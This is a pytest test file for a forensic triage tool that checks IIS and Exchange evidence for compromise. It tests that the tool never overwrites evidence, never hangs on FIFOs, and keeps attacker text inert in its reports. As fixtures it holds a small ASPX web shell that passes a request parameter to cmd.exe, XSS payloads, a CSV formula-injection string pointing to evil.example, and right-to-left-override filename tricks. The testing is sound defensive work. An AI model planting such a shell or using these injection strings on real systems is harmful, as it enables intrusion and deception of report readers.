"""Issue 19 through the installed command: outputs never written through links into the evidence,
FIFOs and devices never waited on, non-UTF-8 names, lying XML encodings, hostile result JSON, and
attacker text inert in the Markdown (rendered here), terminal, HTML and CSV outputs."""

from __future__ import annotations

import csv
import json
import os
import re
import signal
import socket
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from .conftest import EXIT, EXTRIAGE, TIMEOUT, Generated, load, run, snapshot

W3SVC1 = Path("inetpub/logs/LogFiles/W3SVC1")
CONFIG = Path("Windows/System32/inetsrv/config/applicationHost.config")


@pytest.fixture(scope="module")
def result_json(generated: Generated, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One scan result of the attacked server, for the ``report`` cases."""
    out = tmp_path_factory.mktemp("result") / "r.json"
    r = run("scan", generated.root, "-q", "-j", "1", "--json", out)
    assert r.rc == 20, r.tail()
    return out


def some_log(root: Path) -> Path:
    return sorted((root / W3SVC1).glob("*.log"))[0]


# --------------------------------------------------------------------------------------------
# Evidence never overwritten


def test_json_and_timeline_that_are_hard_links_to_evidence(attacked: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    os.link(some_log(attacked), out / "r.json")
    os.link(sorted((attacked / W3SVC1).glob("*.log"))[-1], out / "t.csv")
    before = snapshot(attacked)
    r = run("scan", attacked, "-q", "-j", "1", "--json", out / "r.json", "--timeline", out / "t.csv")
    assert r.rc == 20, r.tail()
    assert snapshot(attacked) == before, "evidence written through a hard link"
    assert load(out / "r.json")["verdict"] == "compromised"


REPORT_FILES = [
    "report.html",
    "report.md",
    "cisa-incident-report.md",
    "indicators.csv",
    "timeline.csv",
    "stix-bundle.json",
    "misp-event.json",
    "timeline.timesketch.jsonl",
]


def _plant_links(rep: Path, target: Path) -> None:
    rep.mkdir(parents=True, exist_ok=True)
    for name in REPORT_FILES:
        (rep / name).symlink_to(target)


def test_scan_report_dir_with_symlinks_into_the_evidence(attacked: Path, tmp_path: Path) -> None:
    rep = tmp_path / "rep"
    _plant_links(rep, some_log(attacked))
    before = snapshot(attacked)
    r = run("scan", attacked, "-q", "-j", "1", "--report", rep)
    assert r.rc == 20, r.tail()
    assert snapshot(attacked) == before, "evidence written through a symlink in the report folder"
    assert not (rep / "report.md").is_symlink()


def test_report_out_dir_with_symlinks_and_hard_links_into_the_evidence(
    attacked: Path, result_json: Path, tmp_path: Path
) -> None:
    rep = tmp_path / "rep"
    _plant_links(rep, some_log(attacked))
    (rep / "report.html").unlink()
    os.link(some_log(attacked), rep / "report.html")
    before = snapshot(attacked)
    r = run("report", result_json, "-o", rep)
    assert r.rc == 0, r.tail()
    assert snapshot(attacked) == before


def test_outputs_inside_the_evidence_by_dotdot_relative_or_symlinked_paths(attacked: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "into").symlink_to(attacked)
    before = snapshot(attacked)
    sub = attacked / W3SVC1
    cases: list[tuple[list[str | Path], Path | None]] = [
        (["scan", attacked, "--json", f"{sub}/../../x.json"], None),
        (["scan", attacked, "--report", f"{attacked}/../{attacked.name}/rep"], None),
        (["scan", ".", "--json", "r.json"], attacked),
        (["scan", ".", "--timeline", "inetpub/t.csv"], attacked),
        (["scan", "inetpub", "--report", "inetpub/logs/rep"], attacked),
        (["scan", attacked, "--json", tmp_path / "elsewhere" / "into" / "r.json"], None),
        (["mitigation", "verify", attacked, "--json", f"{sub}/../m.json"], None),
    ]
    for args, cwd in cases:
        r = run(*args, "-q", "-j", "1", cwd=cwd) if args[0] == "scan" else run(*args, "-q", cwd=cwd)
        assert r.rc == 2, (args, r.rc, r.tail())
        assert snapshot(attacked) == before, f"evidence changed by {args}"


def test_generate_force_never_deletes_what_it_did_not_write(tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "notes.txt").write_text("my case notes\n")
    r = run("generate", mine, "--force", "--size", "300KB", "--days", "1", "-q", "-j", "1")
    assert r.rc == 2, r.tail()
    assert (mine / "notes.txt").read_text() == "my case notes\n"
    gen = tmp_path / "gen"
    r = run("generate", gen, "--scenario", "clean", "--size", "300KB", "--days", "1", "-q", "-j", "1")
    assert r.rc == 0, r.tail()
    (gen / "notes.txt").write_text("added later\n")
    before = snapshot(gen)
    r = run("generate", gen, "--force", "--scenario", "clean", "--size", "300KB", "--days", "1", "-q", "-j", "1")
    assert r.rc == 2, r.tail()
    assert snapshot(gen) == before


# --------------------------------------------------------------------------------------------
# FIFOs and devices: never waited on


def _skipped(out: Path) -> dict[str, str]:
    return {Path(s["path"]).name: s["reason"] for s in load(out)["coverage"]["skipped"]}


def test_fifo_socket_and_device_named_like_logs(
    attacked: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    os.mkfifo(attacked / W3SVC1 / "u_ex210312.log")
    (attacked / W3SVC1 / "u_ex210313.log").symlink_to("/dev/zero")
    monkeypatch.chdir(attacked / W3SVC1)  # a socket path must be short
    sock = socket.socket(socket.AF_UNIX)
    sock.bind("u_ex210314.log")
    monkeypatch.undo()
    before = snapshot(attacked)
    r = run("scan", attacked, "-q", "-j", "1", "--json", tmp_path / "r.json")
    assert r.rc == 20, r.tail()
    sock.close()
    skipped = _skipped(tmp_path / "r.json")
    assert {"u_ex210312.log", "u_ex210314.log"} <= set(skipped), skipped
    assert snapshot(attacked) == before


def test_only_a_fifo_log_is_inconclusive(tmp_path: Path) -> None:
    case = tmp_path / "case" / "W3SVC1"
    case.mkdir(parents=True)
    os.mkfifo(case / "u_ex210310.log")
    r = run("scan", case.parent, "-q", "-j", "1", "--json", tmp_path / "r.json")
    assert r.rc == EXIT["inconclusive"], r.tail()
    assert "u_ex210310.log" in _skipped(tmp_path / "r.json")


def test_fifo_swapped_in_for_a_log_while_the_scan_runs(attacked: Path, tmp_path: Path) -> None:
    """Many logs so the scan is still walking them when one is replaced by a FIFO."""
    src = some_log(attacked)
    extra = attacked / "more" / "W3SVC3"
    extra.mkdir(parents=True)
    head, _, body = src.read_bytes().partition(b"\n#Fields:")
    fields, _, rows = body.partition(b"\n")
    data = head + b"\n#Fields:" + fields + b"\n" + rows * 8  # ~100 KB each: open long enough to be seen
    victims = []
    for i in range(200):
        p = extra / f"u_ex21{i // 28 + 1:02d}{i % 28 + 1:02d}.log"
        p.write_bytes(data)
        victims.append(p)
    argv = [EXTRIAGE, "scan", str(attacked), "-q", "-j", "1", "--json", str(tmp_path / "r.json")]
    proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    swapped = 0
    deadline = time.monotonic() + 60
    try:
        while not swapped and proc.poll() is None and time.monotonic() < deadline:
            if _opened_under(proc.pid, extra):  # the scan is reading these logs now: swap the rest
                for p in victims:
                    p.unlink()
                    os.mkfifo(p)
                swapped = len(victims)
            time.sleep(0.01)
        out, err = proc.communicate(timeout=TIMEOUT)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail("hang: a FIFO swapped in for a log during the scan")
    assert swapped, "the scan ended before it opened the logs to swap: nothing was tested"
    text = (out + err).decode("utf-8", "replace")
    assert "Traceback" not in text, text[-2000:]
    assert proc.returncode == 20, text[-1000:]
    skipped = _skipped(tmp_path / "r.json")
    assert any(p.name in skipped for p in victims), "no swapped-in FIFO is listed as not read"


def _group(pgid: int) -> list[int]:
    """Processes of a process group (Linux /proc)."""
    pids = []
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                fields = (d / "stat").read_text().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[2]) == pgid and fields[0] != "Z":
                pids.append(int(d.name))
    return pids


def _opened_under(pgid: int, folder: Path) -> bool:
    """Whether a process of the group has a file under ``folder`` open (Linux /proc)."""
    prefix = str(folder)
    for pid in _group(pgid):
        try:
            fds = list(Path(f"/proc/{pid}/fd").iterdir())
        except OSError:
            continue
        for fd in fds:
            try:
                if os.readlink(fd).startswith(prefix):
                    return True
            except OSError:
                continue
    return False


def test_sigterm_leaves_no_worker_behind(attacked: Path, tmp_path: Path) -> None:
    """SIGTERM during a two-worker scan (with FIFOs among the logs): every process of it ends."""
    src = some_log(attacked).read_bytes()
    # >= 2,000 files (a smaller tree is scanned without the worker fork server: scan/pipeline.py),
    # each of whole lines and < 16 MB in all, so the logs are read in the main process beside it
    src = src[: src.rfind(b"\n", 0, 6000) + 1]
    extra = attacked / "more" / "W3SVC3"
    extra.mkdir(parents=True)
    for i in range(2100):
        name = extra / f"u_ex{21 + i // 336:02d}{i // 28 % 12 + 1:02d}{i % 28 + 1:02d}.log"
        if i % 50 == 7:
            os.mkfifo(name)
        else:
            name.write_bytes(src)
    argv = [EXTRIAGE, "scan", str(attacked), "-q", "-j", "2", "--json", str(tmp_path / "r.json")]
    proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    deadline = time.monotonic() + 60
    while len(_group(proc.pid)) < 2 and proc.poll() is None and time.monotonic() < deadline:
        time.sleep(0.05)
    assert proc.poll() is None, "the scan ended before its workers started: nothing was tested"
    time.sleep(0.5)
    proc.send_signal(signal.SIGTERM)
    try:
        _, err = proc.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate()
        pytest.fail("the scan did not end within 30 s of SIGTERM")
    assert b"Traceback" not in err, err[-2000:]
    deadline = time.monotonic() + 15
    while time.monotonic() < deadline:
        if not _group(proc.pid):
            return
        time.sleep(0.2)
    os.killpg(proc.pid, signal.SIGKILL)
    pytest.fail("worker processes of the scan were still running 15 s after it ended (orphans)")


def test_applicationhost_config_with_10000_applications(
    attacked: Path, generated: Generated, tmp_path: Path
) -> None:
    """Issue 19: config handling was quadratic (10,000 applications: 395 s); linear is seconds."""
    apps = "".join(
        f'<application path="/app{i}" applicationPool="DefaultAppPool">'
        f'<virtualDirectory path="/" physicalPath="C:\\inetpub\\apps\\app{i}" /></application>\n'
        for i in range(10_000)
    ).encode()
    marker = b'<site name="Default Web Site" id="1">'
    assert marker in generated.config
    cfg = attacked / CONFIG
    cfg.parent.mkdir(parents=True)
    cfg.write_bytes(generated.config.replace(marker, marker + b"\n" + apps, 1))
    r = run("mitigation", "verify", attacked, "-q", "--json", tmp_path / "m.json", timeout=90)
    assert r.rc in (0, 40, 41), r.tail()
    r = run("scan", attacked, "-q", "-j", "1", "--json", tmp_path / "r.json", timeout=90)
    assert r.rc == 20, r.tail()


def test_fifo_as_applicationhost_config(attacked: Path, tmp_path: Path) -> None:
    cfg = attacked / CONFIG
    cfg.parent.mkdir(parents=True)
    os.mkfifo(cfg)
    r = run("mitigation", "verify", attacked, "-q", "--json", tmp_path / "m.json")
    assert r.rc == 41, r.tail()
    text = (tmp_path / "m.json").read_text()
    assert "applicationHost.config" in text
    assert not re.search(r"applicationHost\.config[^\"]*is not in the evidence", text), "a FIFO config called absent"
    r = run("scan", attacked, "-q", "-j", "1", "--json", tmp_path / "r.json")
    assert r.rc == 20, r.tail()
    assert "applicationHost.config" in _skipped(tmp_path / "r.json")


@pytest.mark.parametrize("kind", ["fifo", "/dev/zero"])
def test_report_and_probe_inputs_that_are_not_files(tmp_path: Path, kind: str) -> None:
    if kind == "fifo":
        src = tmp_path / "in.fifo"
        os.mkfifo(src)
    else:
        src = Path(kind)
    r = run("report", src, "-o", tmp_path / "rep")
    assert r.rc == 2, r.tail()
    assert str(src.name) in r.out + r.err
    r = run("probe", "--targets", src, "-q", "--connect-timeout", "0.5", "--read-timeout", "0.5")
    assert r.rc == 2, r.tail()
    r = run("scan", src, "-q", "-j", "1")
    assert r.rc == 2, r.tail()
    r = run("mitigation", "verify", src, "-q")
    assert r.rc == 2, r.tail()


# --------------------------------------------------------------------------------------------
# Names, encodings, hostile result JSON


def test_non_utf8_file_name_beside_the_logs(attacked: Path, tmp_path: Path) -> None:
    odd = os.fsencode(attacked / W3SVC1) + b"/u_ex2103\xff\xfe.log"
    with open(odd, "wb") as f:
        f.write(some_log(attacked).read_bytes())
    bidi = attacked / W3SVC1 / "u_ex210399\u202egol.txt"
    bidi.write_bytes(b"\x00\x01 not a log")
    shells = attacked / "inetpub" / "wwwroot" / "aspnet_client"
    shells.mkdir(parents=True)
    shell = b'<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>'
    with open(os.fsencode(shells) + b"/sh\xffell.aspx", "wb") as f:  # harmless synthetic shell
        f.write(shell)
    (shells / "evil\u202expsa.jpg.aspx").write_bytes(shell)
    before = snapshot(attacked)
    r = run("scan", attacked, "-j", "1", "--json", tmp_path / "r.json", "--report", tmp_path / "rep0")
    assert r.rc == 20, r.tail()
    assert "\u202e" not in r.out + r.err, "U+202E printed raw in the terminal"
    found = json.dumps(load(tmp_path / "r.json")["findings"])
    assert "psa.jpg.aspx" in found and "ell.aspx" in found, "a shell with an odd name was not examined"
    assert "\u202e" not in (tmp_path / "rep0" / "report.html").read_text(encoding="utf-8")
    r2 = run("scan", attacked, "-q", "-j", "1", "--json", "-")
    assert r2.rc == 20, r2.tail()
    r3 = run("report", tmp_path / "r.json", "-o", tmp_path / "rep")
    assert r3.rc == 0, r3.tail()
    assert snapshot(attacked) == before


@pytest.mark.parametrize("encoding", ["x-evil-42", "UTF-32", "UTF-16"])
def test_config_whose_xml_declaration_lies(attacked: Path, generated: Generated, tmp_path: Path, encoding: str) -> None:
    cfg = attacked / CONFIG
    cfg.parent.mkdir(parents=True)
    cfg.write_bytes(generated.config.replace(b'encoding="UTF-8"', f'encoding="{encoding}"'.encode(), 1))
    r = run("mitigation", "verify", attacked, "-q", "--json", tmp_path / "m.json")
    assert r.rc == 41, r.tail()
    r = run("scan", attacked, "-q", "-j", "1", "--json", tmp_path / "r.json")
    assert r.rc == 20, r.tail()
    result = load(tmp_path / "r.json")
    assert "applicationHost.config" in _skipped(tmp_path / "r.json"), result["coverage"]["skipped"]
    assert "failed" not in result["verdict_reason"].lower(), result["verdict_reason"]


def _mutate(src: Path, dest: Path, edit: str) -> Path:
    data: dict[str, Any] = load(src)
    text = json.dumps(data)
    if edit == "400-digit count":
        data["findings"][0]["count"] = "@@BIG@@"
        text = json.dumps(data).replace('"@@BIG@@"', "9" * 400)
    elif edit == "Infinity count":
        data["findings"][0]["count"] = float("inf")
        text = json.dumps(data)
    elif edit == "year 9999":
        data["timeline"][0]["timestamp"] = "9999-12-31T23:59:59.999999+00:00"
        text = json.dumps(data)
    elif edit == "year 0001":
        data["findings"][0]["first_seen"] = "0001-01-01T00:00:00+00:00"
        text = json.dumps(data)
    elif edit == "lone surrogate":
        data["verdict_reason"] = "@@SUR@@"
        text = json.dumps(data).replace("@@SUR@@", "evil \\ud800 text")
    dest.write_text(text, encoding="utf-8")
    return dest


@pytest.mark.parametrize(
    ("edit", "rc"),
    [("400-digit count", 2), ("Infinity count", 2), ("year 9999", 2), ("year 0001", 2), ("lone surrogate", 0)],
)
def test_report_on_hostile_result_json(result_json: Path, tmp_path: Path, edit: str, rc: int) -> None:
    bad = _mutate(result_json, tmp_path / "bad.json", edit)
    r = run("report", bad, "-o", tmp_path / "rep")
    assert r.rc == rc, (r.rc, r.tail())
    if rc == 2:
        assert "bad.json" in r.out + r.err


# --------------------------------------------------------------------------------------------
# Attacker text inert in what a partner opens

HOSTILE_UA = (
    "Mozilla/5.0|[Click+here+for+the+decryption+key](https://evil.example/key)|"
    '<a+href="javascript:alert(1)">x</a>|<img+src=x+onerror=alert(1)>\u202egpj.exe'
)
FORMULA_UA = "=HYPERLINK(\"https://evil.example\",\"x\")"


def _poison(root: Path, attackers: list[str]) -> None:
    for p in sorted((root / W3SVC1).glob("*.log")):
        fields: list[str] = []
        out: list[str] = []
        for i, line in enumerate(p.read_text(encoding="utf-8").splitlines()):
            if line.startswith("#Fields:"):
                fields = line.split()[1:]
            elif not line.startswith("#") and any(ip in line for ip in attackers) and "cs(User-Agent)" in fields:
                cols = line.split(" ")
                k = fields.index("cs(User-Agent)")
                cols[k] = FORMULA_UA if i % 3 == 0 else cols[k] + HOSTILE_UA
                line = " ".join(cols)
            out.append(line)
        p.write_text("\r\n".join(out) + "\r\n", encoding="utf-8")


def test_attacker_text_inert_in_markdown_terminal_html_csv(
    attacked: Path, generated: Generated, tmp_path: Path
) -> None:
    _poison(attacked, generated.attackers)
    rep = tmp_path / "rep"
    r = run("scan", attacked, "-j", "1", "--json", tmp_path / "r.json", "--report", rep)
    assert r.rc == 20, r.tail()
    assert "\u202e" not in r.out + r.err, "U+202E printed raw in the terminal"
    assert "evil.example" in (tmp_path / "r.json").read_text(), "the hostile user agent did not reach the result"
    md = MarkdownIt("commonmark").enable("table")
    for name in ("report.md", "cisa-incident-report.md"):
        html = md.render((rep / name).read_text(encoding="utf-8"))
        hrefs = re.findall(r"""(?:href|src)\s*=\s*["']?([^"' >]*)""", html, re.I)
        assert not [h for h in hrefs if "evil.example" in h or h.lower().startswith("javascript:")], (name, hrefs)
        assert not re.search(r"<(img|a)\b[^>]*(onerror|javascript:)", html, re.I), name
    page = (rep / "report.html").read_text(encoding="utf-8")
    assert "<img src=x" not in page and '<a href="javascript:' not in page
    assert "\u202e" not in page, "U+202E raw in the HTML report"
    seen = 0
    for name in ("indicators.csv", "timeline.csv"):
        with open(rep / name, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        seen += sum("HYPERLINK" in c for c in cells)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name
    assert seen, "the formula user agent reached no CSV: nothing was checked"


def test_output_fifo_with_a_reader_gets_the_result(attacked: Path, tmp_path: Path) -> None:
    """A named pipe to another tool as --json: written to (documented), the tool reads the result."""
    pipe = tmp_path / "r.json"
    os.mkfifo(pipe)
    got: list[bytes] = []

    def reader() -> None:
        with open(pipe, "rb") as f:
            got.append(f.read())

    t = threading.Thread(target=reader, daemon=True)
    t.start()
    r = run("scan", attacked, "-q", "-j", "1", "--json", pipe, timeout=60)
    t.join(10)
    assert r.rc == 20, r.tail()
    assert got and json.loads(got[0])["verdict"] == "compromised"


def test_output_fifo_without_a_reader_is_not_waited_on(tmp_path: Path) -> None:
    """Nothing reads the pipe: the command must say so, not block forever (issue 19: zero hangs)."""
    case = tmp_path / "case"
    case.mkdir()
    (case / "notes.txt").write_text("stray\n")
    os.mkfifo(tmp_path / "r.json")
    r = run("scan", case, "-q", "-j", "1", "--json", tmp_path / "r.json", timeout=30)
    assert r.rc in (2, 3), r.tail()
    assert "nothing read this named pipe" in r.tail()


# --------------------------------------------------------------------------------------------
# Hostile probe servers: bounded time, no traceback


def _hostile_server(mode: str) -> tuple[socket.socket, threading.Thread, threading.Event]:
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    stop = threading.Event()

    def serve() -> None:
        srv.settimeout(0.2)
        conns = []
        while not stop.is_set():
            try:
                c, _ = srv.accept()
            except OSError:
                continue
            conns.append(c)
            try:
                c.settimeout(2)
                c.recv(65536)
                if mode == "endless":
                    c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000000000\r\nX-OWA-Version: 15.1.2176.2\r\n\r\n")
                    chunk = b"A" * 65536
                    for _ in range(400):  # up to 25 MB, then give up
                        c.sendall(chunk)
                elif mode == "garbage":
                    c.sendall(b"\x00\xff HTTP/9.9 \xfe\r\n\r\n" + os.urandom(4096))
                    c.close()
                # "silent": accept, read, never answer
            except OSError:
                pass
        for c in conns:
            c.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    return srv, t, stop


@pytest.mark.parametrize("mode", ["silent", "endless", "garbage"])
def test_probe_against_hostile_servers(mode: str) -> None:
    srv, t, stop = _hostile_server(mode)
    port = srv.getsockname()[1]
    try:
        r = run("probe", f"http://127.0.0.1:{port}", "-q", "--json", "-", "--connect-timeout", "1",
                "--read-timeout", "1", "--retries", "0", timeout=90)
    finally:
        stop.set()
        t.join(5)
        srv.close()
    assert r.rc in (0, 50, 51), r.tail()  # "endless" claims a vulnerable build in its header: 50 is right


def test_sigterm_at_any_moment_ends_promptly_and_quietly(tmp_path: Path) -> None:
    """SIGTERM (and Ctrl-C's SIGINT) at many moments of a parallel scan — the fork server starting, workers being forked,
    stages changing pools, reports — each time the scan ends within seconds, with exit code 143 and
    one line, no traceback, and no process of it left (seen before: a SIGTERM while a pool started its
    workers left the scan waiting for ever on a worker's half-sent result, or printed a worker's
    traceback)."""
    tree = tmp_path / "srv"
    r = run("generate", tree, "-s", "proxylogon", "--size", "40MB", "-q")
    assert r.rc == 0, r.tail()
    interrupted = 0
    for n, delay in enumerate((0.05, 0.2, 0.35, 0.5, 0.65, 0.8, 0.9, 1.0, 1.1, 1.25, 1.5, 1.8)):
        sig = signal.SIGINT if n % 3 == 2 else signal.SIGTERM
        argv = [EXTRIAGE, "scan", str(tree), "-q", "-j", "2", "--json", str(tmp_path / "r.json")]
        proc = subprocess.Popen(argv, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
        if sig == signal.SIGINT:  # Ctrl-C once the command runs (its fork server is up): before that,
            # while the interpreter imports the command, Python itself reports a KeyboardInterrupt
            deadline = time.monotonic() + 30
            while len(_group(proc.pid)) < 2 and proc.poll() is None and time.monotonic() < deadline:
                time.sleep(0.02)
            delay -= 0.35
        time.sleep(max(delay, 0.0))
        if proc.poll() is not None:
            proc.communicate()
            continue  # finished first: nothing to interrupt
        proc.send_signal(sig)
        try:
            _, err = proc.communicate(timeout=20)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.communicate()
            pytest.fail(f"the scan did not end within 20 s of {sig.name} {delay} s after it started")
        if proc.returncode in (EXIT["compromised"], EXIT["attempted"]):
            continue  # the signal came as it finished
        interrupted += 1
        assert b"Traceback" not in err and b"Warning" not in err, (delay, err[-2000:])  # e.g. leaked semaphores
        # before the command's code runs (interpreter start, imports) the default action ends it
        assert proc.returncode in (128 + sig, -sig), (sig.name, delay, proc.returncode, err[-2000:])
        assert proc.returncode < 0 or f"stopped by {sig.name}".encode() in err, (sig.name, delay, err[-2000:])
        deadline = time.monotonic() + 15
        while _group(proc.pid) and time.monotonic() < deadline:
            time.sleep(0.1)
        left = _group(proc.pid)
        if left:
            os.killpg(proc.pid, signal.SIGKILL)
            pytest.fail(f"processes of the scan still running 15 s after {sig.name} at {delay} s: {left}")
    assert interrupted >= 6, "too few scans were still running when signalled: nothing was tested"
